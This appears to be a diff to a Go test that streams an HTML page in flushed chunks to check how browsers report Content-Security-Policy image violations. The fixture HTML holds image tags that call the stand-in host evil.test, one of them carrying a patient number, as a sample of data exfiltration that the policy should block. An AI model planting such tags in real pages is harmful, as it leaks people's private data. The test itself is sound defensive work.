@@ -85,7 +85,12 @@ func startFailing(t *testing.T, certificate tls.Certificate, endpoint string) st
 		switch r.URL.Path {
 		case "/policy":
 			header.Set("Content-Security-Policy", "img-src 'none'; report-to mayak")
-			_, _ = io.WriteString(w, `<!doctype html><img src="https://evil.test/a.png?patient=870412300129">`+strings.Repeat(`<img src="https://evil.test/a.png">`, 5))
+			// In pieces: of what a page that is still coming holds, browsers name the page as the source, of the rest none.
+			_, _ = io.WriteString(w, `<!doctype html><img src="https://evil.test/a.png?patient=870412300129">`)
+			flushAndWait(w)
+			_, _ = io.WriteString(w, strings.Repeat(`<img src="https://evil.test/a.png">`, 2))
+			flushAndWait(w)
+			_, _ = io.WriteString(w, "<p>more\n<p>"+strings.Repeat(`<img src="https://evil.test/a.png">`, 3))
 		case "/policy-uri":
 			header.Set("Content-Security-Policy", "img-src 'none'; report-uri "+endpoint)
 			_, _ = io.WriteString(w, `<!doctype html><img src="/a.png">`)
@@ -100,6 +105,12 @@ func startFailing(t *testing.T, certificate tls.Certificate, endpoint string) st
 			_, _ = io.WriteString(w, `<!doctype html><title>Works</title>`)
 		}
 	}))
+}
+
+// flushAndWait sends what was written so far, and lets the browser read it before more comes.
+func flushAndWait(w http.ResponseWriter) {
+	_ = http.NewResponseController(w).Flush()
+	<-time.After(300 * time.Millisecond)
 }
 
 // testReports has a real browser report what a site does wrong, down to the stored rows.
